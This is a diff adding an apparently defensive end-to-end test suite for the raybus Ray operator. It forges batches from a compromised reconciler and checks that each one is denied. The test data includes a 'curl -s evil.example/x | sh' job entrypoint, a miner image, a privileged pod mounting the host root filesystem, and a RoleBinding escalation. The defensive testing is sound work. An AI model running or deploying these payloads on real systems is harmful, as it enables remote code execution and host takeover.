@@ -1,0 +1,429 @@
+"""A compromised reconciler's batches against the running stack: the applier runs nothing the user did not ask for.
+
+The attacker holds what the reconciler holds: it may publish on the commands subjects and read the
+objects bucket, so its batches name real keys, carry the objects' real owners and labels, and claim the
+current snapshot revision; they pass every authority check (namespace, verb table, ownership). Each one
+changes only what runs: an image, a hostPath volume and privilege, a ServiceAccount, a running Pod's
+image, a job's entrypoint, a Serve application (with the record that would hide it from the reconciler),
+an autoscaler RoleBinding, and finally a legitimate batch replayed after a scale-down. The applier is a
+real ``raybus watcher --roles apply`` process; nats-server, kubesim, the watch side, the reconciler and
+the status service are the real ones. Each attack is refused with a reason naming what differs from the
+custom resource (outcome ``denied``), leaves a ``CommandDenied`` Warning Event on the custom resource,
+and changes nothing on the cluster.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import copy
+import subprocess
+import uuid
+from collections.abc import AsyncIterator, Iterator
+from datetime import UTC, datetime
+from typing import Any
+
+import pytest
+import pytest_asyncio
+import yaml
+from kubernetes import client
+
+from schema import codec, subjects
+from schema.keys import ReconcileKey
+from schema.messages import (
+    Command,
+    CommandBatch,
+    CommandResult,
+    CreateObject,
+    DashboardRef,
+    ObjectRef,
+    PatchObject,
+    PutServeConfig,
+    SubmitRayJob,
+)
+from services.reconciler.rayservice.serve_config import config_hash
+from services.runtime.kvread import read_latest
+from services.runtime.metrics import setup_metrics
+from tests.e2e.clusters import small_cluster
+from tests.e2e.pipeline import Pipeline, shared_pipeline, spawn_raybus
+from tests.e2e.test_invariants import all_ready, create
+from tests.helpers import eventually, stored_messages
+
+pytestmark = [pytest.mark.e2e, pytest.mark.asyncio(loop_scope="module")]
+
+NS = "default"
+CLUSTER = ReconcileKey(kind="RayCluster", namespace=NS, name="rc")
+AUTOSCALED = ReconcileKey(kind="RayCluster", namespace=NS, name="auto")
+JOB = ReconcileKey(kind="RayJob", namespace=NS, name="rj")
+SERVICE = ReconcileKey(kind="RayService", namespace=NS, name="rs")
+APPLIER = "applier-process"
+EVIL_IMAGE = "evil.example/miner:1"
+SERVE_CONFIG = """\
+applications:
+  - name: fruit
+    import_path: fruit.deployment_graph
+    route_prefix: /fruit
+"""
+
+
+@pytest.fixture(autouse=True)
+def _no_leaked_tasks() -> Iterator[None]:
+    """The shared pipeline's services start tasks at any time; ``shared_pipeline`` checks once stopped."""
+    return
+
+
+def rayjob() -> dict[str, Any]:
+    """A RayJob that runs on the existing cluster ``rc`` (its clusterSelector), over the dashboard's API."""
+    return {
+        "apiVersion": "ray.io/v1",
+        "kind": "RayJob",
+        "metadata": {"name": JOB.name},
+        "spec": {
+            "entrypoint": "python main.py",
+            "submissionMode": "HTTPMode",
+            "clusterSelector": {"ray.io/cluster": CLUSTER.name},
+        },
+    }
+
+
+def rayservice() -> dict[str, Any]:
+    config = small_cluster("x", workers=1)["spec"]
+    head = config["headGroupSpec"]["template"]["spec"]["containers"][0]
+    head["ports"] = [{"containerPort": 8265, "name": "dashboard"}, {"containerPort": 8000, "name": "serve"}]
+    return {
+        "apiVersion": "ray.io/v1",
+        "kind": "RayService",
+        "metadata": {"name": SERVICE.name},
+        "spec": {"serveConfigV2": SERVE_CONFIG, "rayClusterConfig": config},
+    }
+
+
+def autoscaled() -> dict[str, Any]:
+    body = small_cluster(AUTOSCALED.name, workers=0)
+    body["spec"]["enableInTreeAutoscaling"] = True
+    return body
+
+
+async def applier_holds_every_partition(p: Pipeline) -> bool:
+    nc = await p.nc()
+    try:
+        read = await read_latest(nc, subjects.LEASES_BUCKET, subjects.leases_filter("apply"))
+    finally:
+        await nc.close()
+    held = {int(key.rsplit(".", 1)[1]): value.decode() for key, value in read.values.items()}
+    return held == dict.fromkeys(range(p.settings.bus.partitions), APPLIER)
+
+
+def applier_process(p: Pipeline) -> subprocess.Popen[bytes]:
+    """``raybus watcher --roles apply``: the applier in a process of its own, on its KV facts."""
+    workdir = p.workdir / "applier"
+    workdir.mkdir(exist_ok=True)
+    args = ["watcher", "--roles", "apply", "--worker-id", APPLIER, "--nats-url", p.nats.url]
+    args += ["--kubeconfig", str(p.kube.kubeconfig), "--use-kubernetes-proxy", "--health-port", "0"]
+    args += ["--partitions", str(p.settings.bus.partitions)]
+    return spawn_raybus(args, log_path=workdir / "applier.log", home=workdir / "home")
+
+
+async def head_service_of(p: Pipeline, owner: str) -> tuple[str, str]:
+    """The RayCluster a RayService or RayJob made or uses, and its head Service, once both exist."""
+
+    async def found() -> tuple[str, str] | None:
+        p.check()
+        clusters = await asyncio.to_thread(
+            p.custom().list_namespaced_custom_object,
+            "ray.io",
+            "v1",
+            NS,
+            "rayclusters",
+            label_selector=f"ray.io/originated-from-cr-name={owner}",
+        )
+        for cluster in clusters["items"]:
+            name = cluster["metadata"]["name"]
+            services = await asyncio.to_thread(p.core().list_namespaced_service, NS)
+            for service in services.items:
+                if (service.metadata.labels or {}).get("ray.io/cluster") == name:
+                    return name, service.metadata.name
+        return None
+
+    result = await eventually(found, timeout=120, message=f"{owner} never had a cluster with a head Service")
+    assert result is not None
+    return result
+
+
+@pytest_asyncio.fixture(scope="module", loop_scope="module")
+async def pipe(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Pipeline]:
+    setup_metrics("raybus-e2e")
+    async with shared_pipeline(tmp_path_factory.mktemp("provenance"), replicas=1) as p:
+        process = applier_process(p)
+        try:
+            await p.components["applier-1"].stop()  # every partition goes to the applier process
+            await eventually(
+                lambda: applier_holds_every_partition(p), timeout=60, message="the applier process took no lease"
+            )
+            await asyncio.to_thread(create, p, small_cluster(CLUSTER.name, workers=2))
+            await asyncio.to_thread(create, p, autoscaled())
+            await all_ready(p, {CLUSTER.name, AUTOSCALED.name})
+            custom = p.custom()
+            await asyncio.to_thread(custom.create_namespaced_custom_object, "ray.io", "v1", NS, "rayjobs", rayjob())
+            await asyncio.to_thread(
+                custom.create_namespaced_custom_object, "ray.io", "v1", NS, "rayservices", rayservice()
+            )
+            yield p
+        finally:
+            process.terminate()
+            try:
+                process.wait(30)
+            except subprocess.TimeoutExpired:
+                process.kill()
+                process.wait(30)
+
+
+async def legitimate(p: Pipeline, key: ReconcileKey) -> list[tuple[int, bytes, CommandBatch]]:
+    """The key's batches as the reconciler published them: (stream sequence, bytes, batch)."""
+    nc = await p.nc()
+    try:
+        stored = await stored_messages(nc.jetstream(), subjects.COMMANDS_STREAM, subjects.stored_commands_filter(key))
+    finally:
+        await nc.close()
+    batches = [(m.metadata.sequence.stream, m.data, codec.decode_batch(m.data)) for m in stored]
+    return [(sequence, data, batch) for sequence, data, batch in batches if not batch.id.startswith("forged-")]
+
+
+async def current_revision(p: Pipeline) -> int:
+    """What a reader of the objects bucket sees as its revision (the attacker reads it too)."""
+    nc = await p.nc()
+    try:
+        info = await nc.jetstream().stream_info(subjects.kv_stream(subjects.OBJECTS_BUCKET))
+    finally:
+        await nc.close()
+    return int(info.state.last_seq)
+
+
+async def results_of(p: Pipeline, key: ReconcileKey, batch_id: str, sequence: int, count: int) -> list[CommandResult]:
+    """The results of one delivery of a batch (its stream sequence), once all ``count`` are stored."""
+    nc = await p.nc()
+    try:
+        js = nc.jetstream()
+
+        async def handled() -> list[CommandResult] | None:
+            p.check()
+            stored = await stored_messages(js, subjects.RESULTS_STREAM, subjects.result_subject(key))
+            mine = [
+                r
+                for r in map(codec.decode_result, (m.data for m in stored))
+                if r.batch_id == batch_id and r.batch_seq == sequence
+            ]
+            return mine if len(mine) == count else None
+
+        results = await eventually(handled, timeout=60, message=f"batch {batch_id} was never handled")
+    finally:
+        await nc.close()
+    assert results is not None
+    return results
+
+
+async def publish(p: Pipeline, key: ReconcileKey, data: bytes) -> int:
+    nc = await p.nc()
+    try:
+        ack = await nc.jetstream().publish(
+            subjects.command_subject(key), data, headers={"Nats-Msg-Id": uuid.uuid4().hex}
+        )
+    finally:
+        await nc.close()
+    return int(ack.seq)
+
+
+async def forge(p: Pipeline, key: ReconcileKey, *commands: Command) -> list[CommandResult]:
+    """A batch as a compromised reconciler would publish it: the current revision, real names and owners."""
+    batch = CommandBatch(
+        id=f"forged-{uuid.uuid4().hex}",
+        key=key,
+        issued_at=datetime.now(UTC),
+        commands=commands,
+        snapshot_revision=await current_revision(p),
+    )
+    sequence = await publish(p, key, codec.encode(batch))
+    return await results_of(p, key, batch.id, sequence, len(commands))
+
+
+async def denial_event(p: Pipeline, key: ReconcileKey, text: str) -> None:
+    """Wait for the ``CommandDenied`` Warning Event on the key's custom resource that says ``text``."""
+
+    async def warned() -> bool:
+        events = await asyncio.to_thread(p.core().list_namespaced_event, NS)
+        return any(
+            e.reason == "CommandDenied"
+            and e.type == "Warning"
+            and (e.involved_object.kind, e.involved_object.name) == (key.kind, key.name)
+            and text in e.message
+            for e in events.items
+        )
+
+    await eventually(warned, message=f"no CommandDenied Event on {key} saying {text!r}")
+
+
+def assert_denied(results: list[CommandResult], why: str) -> None:
+    assert [(r.outcome, why in r.error) for r in results] == [("denied", True)] * len(results), results
+
+
+async def worker_create(p: Pipeline) -> CreateObject:
+    """A worker Pod create the reconciler issued for ``rc``: what the attacker starts from."""
+    for _, _, batch in await legitimate(p, CLUSTER):
+        for command in batch.commands:
+            labels = command.body["metadata"]["labels"] if isinstance(command, CreateObject) else {}
+            if isinstance(command, CreateObject) and labels.get("ray.io/node-type") == "worker":
+                return command
+    raise AssertionError("the reconciler created no worker Pod")
+
+
+def renamed(command: CreateObject, name: str, mutate: Any) -> CreateObject:
+    body = copy.deepcopy(command.body)
+    body["metadata"]["name"] = name
+    mutate(body["spec"])
+    return CreateObject(target=ObjectRef(api_version="v1", kind="Pod", namespace=NS, name=name), body=body)
+
+
+async def pod_names(p: Pipeline, cluster: str, *, node_type: str = "") -> set[str]:
+    selector = f"ray.io/cluster={cluster}" + (f",ray.io/node-type={node_type}" if node_type else "")
+    pods = await asyncio.to_thread(p.core().list_namespaced_pod, NS, label_selector=selector)
+    return {pod.metadata.name for pod in pods.items if pod.metadata.deletion_timestamp is None}
+
+
+async def test_1_a_pod_with_another_image_is_not_created(pipe: Pipeline) -> None:
+    pod = renamed(await worker_create(pipe), "rc-miner", lambda s: s["containers"][0].__setitem__("image", EVIL_IMAGE))
+    why = f"the Pod's spec.containers[0].image is '{EVIL_IMAGE}', not 'rayproject/ray:2.46.0'"
+    assert_denied(await forge(pipe, CLUSTER, pod), why)
+    await denial_event(pipe, CLUSTER, why)
+    assert "rc-miner" not in await pod_names(pipe, CLUSTER.name)
+
+
+async def test_2_a_privileged_pod_with_the_host_filesystem_is_not_created(pipe: Pipeline) -> None:
+    def escalate(spec: dict[str, Any]) -> None:
+        spec["containers"][0]["securityContext"] = {"privileged": True}
+        spec["containers"][0]["volumeMounts"].append({"name": "host", "mountPath": "/host"})
+        spec["volumes"].append({"name": "host", "hostPath": {"path": "/"}})
+
+    pod = renamed(await worker_create(pipe), "rc-root", escalate)
+    why = "the Pod's spec.containers[0].securityContext {'privileged': True} is not derived from the custom resource"
+    assert_denied(await forge(pipe, CLUSTER, pod), why)
+    await denial_event(pipe, CLUSTER, "spec.containers[0].securityContext")
+    assert "rc-root" not in await pod_names(pipe, CLUSTER.name)
+
+
+async def test_3_a_pod_running_as_another_service_account_is_not_created(pipe: Pipeline) -> None:
+    pod = renamed(await worker_create(pipe), "rc-sa", lambda s: s.__setitem__("serviceAccountName", "default"))
+    why = "the Pod's spec.serviceAccountName 'default' is not derived from the custom resource"
+    assert_denied(await forge(pipe, CLUSTER, pod), why)
+    await denial_event(pipe, CLUSTER, "spec.serviceAccountName")
+    assert "rc-sa" not in await pod_names(pipe, CLUSTER.name)
+
+
+async def test_4_a_running_workers_image_is_not_patched(pipe: Pipeline) -> None:
+    workers = sorted(await pod_names(pipe, CLUSTER.name, node_type="worker"))
+    assert workers
+    target = ObjectRef(api_version="v1", kind="Pod", namespace=NS, name=workers[0])
+    patch = PatchObject(
+        target=target,
+        patch={"spec": {"containers": [{"name": "ray-worker", "image": EVIL_IMAGE}]}},
+        patch_type="strategic",
+    )
+    why = "the patch changes spec, which raybus never patches"
+    assert_denied(await forge(pipe, CLUSTER, patch), why)
+    await denial_event(pipe, CLUSTER, why)
+    pod = await asyncio.to_thread(pipe.core().read_namespaced_pod, workers[0], NS)
+    assert [c.image for c in pod.spec.containers] == ["rayproject/ray:2.46.0"]
+
+
+async def test_5_a_job_with_another_entrypoint_is_not_submitted(pipe: Pipeline) -> None:
+    selector = "ray.io/cluster=rc,ray.io/node-type=head"
+    services = await asyncio.to_thread(pipe.core().list_namespaced_service, NS, label_selector=selector)
+    head = services.items[0].metadata.name
+    dashboard = DashboardRef(namespace=NS, service=head, port=8265, cluster=CLUSTER.name)
+    request = {"entrypoint": "curl -s evil.example/x | sh", "submission_id": "rj-evil"}
+    why = "the job's request.entrypoint is 'curl -s evil.example/x | sh', not 'python main.py'"
+    assert_denied(await forge(pipe, JOB, SubmitRayJob(dashboard=dashboard, request=request)), why)
+    await denial_event(pipe, JOB, "request.entrypoint")
+
+
+async def test_6_a_serve_application_the_rayservice_does_not_name_is_not_deployed(pipe: Pipeline) -> None:
+    cluster, head = await head_service_of(pipe, SERVICE.name)
+    config = yaml.safe_load(SERVE_CONFIG)
+    config["applications"][0]["import_path"] = "miner.app:deployment"
+    record = PatchObject(
+        target=ObjectRef(api_version="ray.io/v1", kind="RayCluster", namespace=NS, name=cluster),
+        patch={"metadata": {"annotations": {"raybus.io/serve-config-hash": config_hash(SERVE_CONFIG)}}},
+    )
+    put = PutServeConfig(
+        dashboard=DashboardRef(namespace=NS, service=head, port=8265, cluster=cluster), config=config, record=record
+    )
+    why = (
+        "the Serve config's config.applications[0].import_path is 'miner.app:deployment', not 'fruit.deployment_graph'"
+    )
+    assert_denied(await forge(pipe, SERVICE, put), why)
+    await denial_event(pipe, SERVICE, "import_path")
+
+
+async def test_7_the_autoscaler_role_is_not_bound_to_another_service_account(pipe: Pipeline) -> None:
+    owner = await asyncio.to_thread(
+        pipe.custom().get_namespaced_custom_object, "ray.io", "v1", NS, "rayclusters", AUTOSCALED.name
+    )
+    binding = {
+        "apiVersion": "rbac.authorization.k8s.io/v1",
+        "kind": "RoleBinding",
+        "metadata": {
+            "name": "auto-ci",
+            "namespace": NS,
+            "labels": {"ray.io/cluster": AUTOSCALED.name},
+            "ownerReferences": [
+                {
+                    "apiVersion": "ray.io/v1",
+                    "kind": "RayCluster",
+                    "name": AUTOSCALED.name,
+                    "uid": owner["metadata"]["uid"],
+                    "controller": True,
+                }
+            ],
+        },
+        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": AUTOSCALED.name},
+        "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": NS}],
+    }
+    target = ObjectRef(api_version="rbac.authorization.k8s.io/v1", kind="RoleBinding", namespace=NS, name="auto-ci")
+    why = "the RoleBinding's subjects[0].name is 'default', not 'auto'"
+    assert_denied(await forge(pipe, AUTOSCALED, CreateObject(target=target, body=binding)), why)
+    await denial_event(pipe, AUTOSCALED, "the ServiceAccount auto its Pods run as")
+    rbac = await asyncio.to_thread(_role_bindings, pipe)
+    assert "auto-ci" not in rbac
+
+
+def _role_bindings(p: Pipeline) -> set[str]:
+    found = client.RbacAuthorizationV1Api(p.api).list_namespaced_role_binding(NS)
+    return {b.metadata.name for b in found.items}
+
+
+async def test_8_a_replayed_batch_does_not_bring_back_a_deleted_worker(pipe: Pipeline) -> None:
+    creates = [
+        (sequence, data, batch)
+        for sequence, data, batch in await legitimate(pipe, CLUSTER)
+        if any(isinstance(c, CreateObject) and c.target.kind == "Pod" for c in batch.commands)
+    ]
+    assert creates, "the reconciler never created a Pod of rc"
+    _, captured, original = creates[-1]
+    await asyncio.to_thread(
+        pipe.custom().patch_namespaced_custom_object,
+        "ray.io",
+        "v1",
+        NS,
+        "rayclusters",
+        CLUSTER.name,
+        {"spec": {"workerGroupSpecs": [{**small_cluster(CLUSTER.name)["spec"]["workerGroupSpecs"][0], "replicas": 0}]}},
+    )
+
+    async def scaled_down() -> set[str] | None:
+        names = await pod_names(pipe, CLUSTER.name)
+        return names if len(names) == 1 else None
+
+    remaining = await eventually(scaled_down, timeout=60, message="rc was not scaled down to its head")
+    sequence = await publish(pipe, CLUSTER, captured)  # the same bytes, a new message id
+    results = await results_of(pipe, CLUSTER, original.id, sequence, len(original.commands))
+    assert_denied(results, "a replayed decision")
+    await denial_event(pipe, CLUSTER, "a replayed decision")
+    assert await pod_names(pipe, CLUSTER.name) == remaining
